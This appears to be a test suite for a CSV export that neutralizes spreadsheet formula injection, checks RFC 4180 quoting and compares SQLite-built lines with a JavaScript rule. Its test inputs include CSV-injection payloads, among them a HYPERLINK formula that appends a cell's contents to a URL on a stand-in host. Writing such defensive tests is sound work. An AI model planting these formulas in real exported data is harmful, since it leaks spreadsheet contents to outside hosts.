// The CSV export: text cells that could start a spreadsheet formula are neutralized (OWASP CSV
// injection), numbers are never touched, every field holding a control character is quoted
// (RFC 4180), and the lines SQLite builds are the JavaScript rule's, byte for byte.
import type { InjectOptions } from 'fastify'
import Database from 'better-sqlite3'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { NEUTRALIZED_LEADS, csvCell, isNeutralizedLead, unneutralize } from '../src/http/csv-export.js'
import { CSV_LINE_SQL, csvCellSql } from '../src/storage/sqlite/csv-sql.js'
import { createKey } from '../src/modules/keys/keys.js'
import { CSV_COLUMNS, CSV_NUMBER_COLUMNS, CSV_TEXT_COLUMNS, csvLine } from '../src/modules/observations/observations.csv.js'
import type { ObservationRow } from '../src/storage/ports.js'
import { buildTestApp, json, type TestContext } from './helpers.js'

/**
 * A strict RFC 4180 reader, independent of the writer: CRLF between records only, and an
 * unquoted field may hold only TEXTDATA (%x20-21 / %x23-2B / %x2D-7E) or non-ASCII that is not
 * a control character or line separator. Anything else throws.
 */
function parseStrict(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let i = 0
  for (;;) {
    let field = ''
    if (text[i] === '"') {
      i++
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field')
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"'
            i += 2
            continue
          }
          i++
          break
        }
        field += text[i++]
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        const c = text.codePointAt(i) as number
        const textData = (c >= 0x20 && c <= 0x7e && c !== 0x22 && c !== 0x2c) || (c > 0x9f && c !== 0x2028 && c !== 0x2029)
        if (!textData) throw new Error(`unquoted field holds U+${c.toString(16).padStart(4, '0')} at ${i}`)
        const ch = String.fromCodePoint(c)
        field += ch
        i += ch.length
      }
    }
    record.push(field)
    if (text[i] === ',') {
      i++
      continue
    }
    if (text.startsWith('\r\n', i)) {
      records.push(record)
      record = []
      i += 2
      if (i === text.length) return records
      continue
    }
    throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 5))}`)
  }
}

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', "'", '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '⁼', '₊']
const LEADING_SPACE = [' ', '\t', '\u3000', '\u00a0', '\n', '\r', '\0', '\u200b', '\ufeff', '\u0085', '\u2028']
const SPECIAL = [',', '"', '\r', '\n', '\r\n', '\0', '\t', '\x1f', '\x7f', '\u0085', '\u009f', '\u2028', '\u2029', '\\', '=', '-', "'", '😀', '低保', 'é']

/** Strings of every class that matters: formula triggers first, after whitespace or not, controls, quotes, CR/LF, emoji, NUL. */
const csvText = fc
  .tuple(
    fc.oneof(
      fc.constantFrom(...TRIGGERS),
      fc.tuple(fc.array(fc.constantFrom(...LEADING_SPACE), { minLength: 1, maxLength: 3 }), fc.constantFrom(...TRIGGERS)).map(([ws, t]) => ws.join('') + t),
      fc.constantFrom(...SPECIAL),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
      fc.constant(''),
    ),
    fc.array(fc.oneof(fc.constantFrom(...SPECIAL), fc.string({ unit: 'binary', minLength: 1, maxLength: 3 })), { maxLength: 10 }),
  )
  // U+0000 is refused on the way in (test/write-api.test.ts); everything else is fair game.
  .map(([head, rest]) => (head + rest.join('')).replaceAll('\u0000', ''))

const decimal = fc
  .tuple(fc.boolean(), fc.bigInt({ min: 0n, max: 10n ** 20n }), fc.option(fc.bigInt({ min: 0n, max: 10n ** 6n }), { nil: undefined }))
  .map(([neg, int, frac]) => `${neg ? '-' : ''}${int}${frac === undefined ? '' : `.${frac}`}`)

const QUOTED = /[",\\\u0000-\u001f\u007f-\u009f\u2028\u2029]/

/** What the rule must make of a text cell, written out plainly. */
function expectedText(s: string): string {
  const neutralize = s !== '' && isNeutralizedLead(s.codePointAt(0) as number)
  const content = neutralize ? `'${s}` : s
  return neutralize || QUOTED.test(s) ? `"${content.replace(/"/g, '""')}"` : s
}

describe('the rule', () => {
  it('neutralizes formula triggers in text, keeps numbers exact, and quotes what RFC 4180 requires', async () => {
    expect(csvCell('text', '=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`)
    for (const s of ['=1+1', '+1', '-5', '@SUM(A1)', '\t=1', '\r=1', ' =1', '\u3000=1', '＝1+1', '＋1', '－1', '＠A', "'x"]) {
      expect(csvCell('text', s), JSON.stringify(s)).toBe(`"'${s}"`)
    }
    for (const n of ['-5', '-0.5', '+1', '=1', '484.752', '0']) expect(csvCell('number', n)).toBe(n)
    expect(csvCell('number', -5)).toBe('-5')
    expect(csvCell('text', '全镇低保户31户')).toBe('全镇低保户31户')
    expect(csvCell('text', 'a=b-c')).toBe('a=b-c')
    expect(csvCell('text', 'a,b')).toBe('"a,b"')
    expect(csvCell('text', 'a\u0000b')).toBe('"a\u0000b"')
    expect(csvCell('text', 'a\u0085b')).toBe('"a\u0085b"')
    expect(csvCell('text', null)).toBe('')
    expect(csvCell('text', '')).toBe('')
  })

  it('any text: a strict reader gets one field, the neutralized cell; dropping one leading \' gives the original back', async () => {
    fc.assert(
      fc.property(csvText, (s) => {
        const cell = csvCell('text', s)
        expect(cell).toBe(expectedText(s))
        const records = parseStrict(`${cell}\r\n`)
        expect(records).toHaveLength(1)
        expect(records[0]).toHaveLength(1)
        const read = (records[0] as string[])[0] as string
        expect(unneutralize(read)).toBe(s)
        // Nothing a spreadsheet reads as a formula, even after skipping leading whitespace or controls.
        expect(read).not.toMatch(/^[\p{Cc}\p{Z}\p{Cf}]*[=+\-@＝＋－＠]/u)
      }),
      { numRuns: 3000 },
    )
  })

  it('any number: written as it is, never prefixed', async () => {
    fc.assert(
      fc.property(decimal, (d) => {
        expect(csvCell('number', d)).toBe(d)
      }),
    )
  })

  it('the lead table is every control, space and format character and every character NFKC reads as = + - @ \'', async () => {
    const triggers = /^[=+\-@']/
    const wrong: string[] = []
    for (let c = 0; c <= 0x10ffff; c++) {
      if (c >= 0xd800 && c <= 0xdfff) continue
      const s = String.fromCodePoint(c)
      const must = /[\p{Cc}\p{Z}]/u.test(s) || triggers.test(s.normalize('NFKC'))
      const may = must || /\p{Cf}/u.test(s)
      if (isNeutralizedLead(c) ? !may : must) wrong.push(`U+${c.toString(16)}`)
    }
    expect(wrong, 'characters the lead table gets wrong').toEqual([])
    for (const [from, to] of NEUTRALIZED_LEADS) expect(from).toBeLessThanOrEqual(to)
  }, 120_000)
})

describe('the rule in SQL', () => {
  const db = new Database(':memory:')
  afterAll(() => db.close())
  // As text, the way the export concatenates it into the line.
  const sql = {
    text: db.prepare(`SELECT '' || (${csvCellSql('text', '@v')})`).pluck(),
    number: db.prepare(`SELECT '' || (${csvCellSql('number', '@v')})`).pluck(),
  }

  it('agrees with the JavaScript rule on generated text and numbers', async () => {
    fc.assert(
      fc.property(csvText, (v) => {
        expect(sql.text.get({ v })).toBe(csvCell('text', v))
        expect(sql.number.get({ v })).toBe(csvCell('number', v))
      }),
      { numRuns: 3000 },
    )
    fc.assert(
      fc.property(decimal, (v) => {
        expect(sql.number.get({ v })).toBe(v)
      }),
    )
    // Stored integers (bound as BigInt: better-sqlite3 binds a JavaScript number as REAL).
    for (const v of [0n, -5n, 123456789012n]) expect(sql.number.get({ v })).toBe(csvCell('number', Number(v)))
    expect(sql.number.get({ v: null })).toBe('')
    expect(sql.text.get({ v: null })).toBe('')
  })

  it('agrees at every boundary of the tables, as the first character and inside the text', async () => {
    const points = new Set<number>()
    for (let c = 0; c < 0x3100; c++) points.add(c)
    for (const [from, to] of NEUTRALIZED_LEADS) for (const c of [from - 1, from, to, to + 1]) points.add(c)
    for (const c of [0xfb28, 0xfb29, 0xff00, 0xff5e, 0xfffd, 0xffff, 0x10000, 0x1f600, 0x10ffff]) points.add(c)
    for (const c of points) {
      if (c < 0 || c > 0x10ffff || (c >= 0xd800 && c <= 0xdfff)) continue
      const ch = String.fromCodePoint(c)
      for (const v of [ch, `${ch}x`, `x${ch}`, `x${ch}y`, ` ${ch}`]) {
        expect(sql.text.get({ v }), `text ${JSON.stringify(v)}`).toBe(csvCell('text', v))
        expect(sql.number.get({ v }), `number ${JSON.stringify(v)}`).toBe(csvCell('number', v))
      }
    }
  })
})

describe('the line in SQL', () => {
  // The tables the line reads, without constraints, so that every column can hold any text.
  const db = new Database(':memory:')
  db.exec(`CREATE TABLE observation (id INTEGER PRIMARY KEY, indicator_code TEXT, area_code TEXT, period_code TEXT, kind TEXT, current_seq INTEGER);
    CREATE TABLE indicator (code TEXT PRIMARY KEY, unit TEXT);
    CREATE TABLE observation_revision (seq INTEGER PRIMARY KEY, revision INTEGER, status TEXT, value TEXT, qualifier TEXT, reported_value TEXT,
      reported_unit TEXT, reported_text TEXT, source_id TEXT, quote TEXT, byte_start INTEGER, byte_end INTEGER, involved_areas TEXT, recorded_at TEXT,
      temporality TEXT, reference_date TEXT, published_at TEXT, note TEXT)`)
  afterAll(() => db.close())
  const line = db
    .prepare(`SELECT ${CSV_LINE_SQL} FROM observation o JOIN observation_revision r ON r.seq = o.current_seq JOIN indicator i ON i.code = o.indicator_code WHERE o.id = ?`)
    .pluck()
  let id = 0
  const DIRTY = ['indicator', 'area', 'period', 'kind', 'unit', 'qualifier', 'status', 'reportedUnit', 'reportedText', 'sourceId', 'quote', 'involved', 'recordedAt', 'temporality', 'referenceDate', 'publishedAt', 'note'] as const

  it('equals the JavaScript line whichever column holds the text, clean rows and rows to quote alike', async () => {
    const maybe = (a: fc.Arbitrary<string>) => fc.option(a, { nil: null })
    fc.assert(
      fc.property(
        fc.record({
          indicator: csvText, area: csvText, period: csvText, kind: csvText, unit: csvText, qualifier: csvText, status: csvText,
          value: decimal, reportedValue: decimal, reportedUnit: csvText, reportedText: maybe(csvText), sourceId: csvText, quote: csvText,
          involved: fc.array(csvText, { maxLength: 3 }), recordedAt: csvText, temporality: csvText, referenceDate: maybe(csvText), publishedAt: maybe(csvText), note: maybe(csvText),
          byteStart: fc.nat(), byteEnd: fc.nat(), revision: fc.integer({ min: 1, max: 1000 }),
        }),
        // Most rows in a real export have nothing to quote: generate rows with every column plain,
        // with one column as generated (the others plain), and with every column as generated.
        fc.constantFrom('none', 'all', ...DIRTY),
        (g, dirty) => {
          const col = (name: (typeof DIRTY)[number], v: string) => (dirty === 'all' || dirty === name ? v : v.replace(/[^a-z0-9.]/gi, 'x'))
          id++
          const row = {
            id, indicator: `${col('indicator', g.indicator)}#${id}`, area: col('area', g.area), period: col('period', g.period), kind: col('kind', g.kind),
            unit: col('unit', g.unit), seq: id, revision: g.revision, status: col('status', g.status), value: g.value, qualifier: col('qualifier', g.qualifier),
            reportedValue: g.reportedValue, reportedUnit: col('reportedUnit', g.reportedUnit), reportedText: g.reportedText === null ? null : col('reportedText', g.reportedText),
            sourceId: col('sourceId', g.sourceId), quote: col('quote', g.quote), byteStart: g.byteStart, byteEnd: g.byteEnd,
            involvedAreas: JSON.stringify(g.involved.map((a) => col('involved', a))), note: g.note === null ? null : col('note', g.note), reason: 'r', actor: 'a', recordedAt: col('recordedAt', g.recordedAt),
            temporality: col('temporality', g.temporality), referenceDate: g.referenceDate === null ? null : col('referenceDate', g.referenceDate),
            // A revision from before migration 0006 has no publication time: the line reads its recording time instead.
            storedPublishedAt: g.publishedAt === null ? null : col('publishedAt', g.publishedAt),
          } as unknown as ObservationRow & { storedPublishedAt: string | null }
          row.publishedAt = row.storedPublishedAt ?? row.recordedAt
          db.prepare('INSERT INTO indicator VALUES (?, ?)').run(row.indicator, row.unit)
          db.prepare('INSERT INTO observation VALUES (?, ?, ?, ?, ?, ?)').run(id, row.indicator, row.area, row.period, row.kind, id)
          db.prepare('INSERT INTO observation_revision VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)').run(
            id, row.revision, row.status, row.value, row.qualifier, row.reportedValue, row.reportedUnit, row.reportedText, row.sourceId, row.quote,
            row.byteStart, row.byteEnd, row.involvedAreas, row.recordedAt, row.temporality, row.referenceDate, row.storedPublishedAt, row.note,
          )
          const sqlLine = line.get(id) as string
          expect(sqlLine).toBe(csvLine(row))
          // A strict reader gets the row back: numbers as stored, text neutralized and reversible.
          const [record] = parseStrict(sqlLine)
          expect(record).toHaveLength(CSV_COLUMNS.length)
          const cell = (name: string) => (record as string[])[CSV_COLUMNS.indexOf(name)] as string
          expect(cell('value')).toBe(row.value)
          expect(cell('reported_value')).toBe(row.reportedValue)
          expect(unneutralize(cell('quote'))).toBe(row.quote)
          expect(unneutralize(cell('indicator'))).toBe(row.indicator)
          expect(unneutralize(cell('involved_areas'))).toBe((JSON.parse(row.involvedAreas) as string[]).join(';'))
          expect(unneutralize(cell('reported_text'))).toBe(row.reportedText ?? '')
          expect(unneutralize(cell('note'))).toBe(row.note ?? '')
        },
      ),
      { numRuns: 2000 },
    )
  })
})

describe('the export, end to end', () => {
  let t: TestContext
  let admin: string
  let writer: string
  const bearer = (secret: string) => ({ authorization: `Bearer ${secret}` })

  beforeAll(async () => {
    t = await buildTestApp({ build: { config: { databaseUrl: ':memory:', rateLimitPerMinute: 1_000_000 } } })
    admin = (await createKey(t.storage, 'csv-admin', ['admin'])).secret
    writer = (await createKey(t.storage, 'csv-writer', ['write'])).secret
  })
  afterAll(() => t.close())

  const inject = (options: InjectOptions) => t.app.inject(options)

  let run = 0
  /** Stores `text` as a source and cites it whole; returns the observation as the JSON API serves it. */
  async function cite(prefix: string, suffix: string, reported: { value: string; unit: string }, indicator: string) {
    run++
    const quote = `${prefix}共${reported.value}${reported.unit}${suffix}`
    const id = `csv-prop-${run}`
    const src = await inject({
      method: 'POST',
      url: '/v1/sources',
      headers: bearer(admin),
      payload: { id, title: 'x', issuer: 'x', issuedOn: '2023-10-09', contentBase64: Buffer.from(quote, 'utf8').toString('base64') },
    })
    expect(src.statusCode, src.body).toBe(201)
    const imp = await inject({
      method: 'POST',
      url: '/v1/imports',
      headers: bearer(writer),
      payload: { reason: 'csv property', observations: [{ indicator, area: 'bayantala', period: '2023-Q3', kind: 'forecast', reported, citation: { sourceId: id, quote } }] },
    })
    expect(imp.statusCode, imp.body).toBe(200)
    const page = json((await inject({ url: `/v1/observations?indicator=${indicator}&kind=forecast&period=2023-Q3` })).body)
    const o = page.data[0]
    expect(o.source.quote).toBe(quote)
    return o
  }

  /** The export, held to the JavaScript rule byte for byte, read back strictly as records by column name. */
  async function exported(): Promise<Array<Record<string, string>>> {
    const res = await inject({ url: '/v1/observations?format=csv' })
    expect(res.statusCode).toBe(200)
    const rows = await t.storage.observations.page({}, 0, 1_000_000)
    expect(res.body).toBe(CSV_COLUMNS.join(',') + '\r\n' + rows.map(csvLine).join(''))
    const [header, ...records] = parseStrict(res.body)
    expect(header).toEqual(CSV_COLUMNS)
    return records.map((r) => {
      expect(r).toHaveLength(CSV_COLUMNS.length)
      return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i] as string]))
    })
  }

  it('declares every column text or number, numbers being the ids, values and offsets', async () => {
    expect([...CSV_TEXT_COLUMNS, ...CSV_NUMBER_COLUMNS].sort()).toEqual([...CSV_COLUMNS].sort())
    expect(CSV_NUMBER_COLUMNS).toEqual(['id', 'value', 'reported_value', 'byte_start', 'byte_end', 'revision'])
  })

  it('a quote of any text stored through the API comes back neutralized, the SQL lines equal to the JavaScript rule', async () => {
    await fc.assert(
      fc.asyncProperty(csvText, csvText, async (prefix, suffix) => {
        const o = await cite(prefix, suffix, { value: String(8000 + run + 1), unit: '人' }, 'pension_insurance_enrolled')
        const row = (await exported()).find((r) => r.id === String(o.id)) as Record<string, string>
        const plain = parseStrict(`${expectedText(o.source.quote)}\r\n`)[0]?.[0]
        expect(row.quote).toBe(plain)
        expect(unneutralize(row.quote as string)).toBe(o.source.quote)
        expect(row.value).toBe(o.value)
        expect(row.reported_value).toBe(o.reported.value)
      }),
      { numRuns: 25 },
    )
  })

  it('negative numbers stay exact and unprefixed while a text cell with the same characters is neutralized', async () => {
    const o = await cite('=HYPERLINK("http://x.example","-0.5")', '', { value: '-0.5', unit: '万元' }, 'dibao_paid')
    const row = (await exported()).find((r) => r.id === String(o.id)) as Record<string, string>
    expect(row.reported_value).toBe('-0.5')
    expect(row.value).toBe(o.value)
    expect(row.value).toBe('-5000')
    expect(row.quote).toBe(`'${o.source.quote}`)
    const raw = (await inject({ url: `/v1/observations?format=csv&indicator=dibao_paid&kind=forecast` })).body
    expect(raw).toContain(`,-5000,CNY,eq,flow,,-0.5,万元,`)
    expect(raw).toContain(`,"'=HYPERLINK(""http://x.example"",""-0.5"")共-0.5万元",`)
  })
})
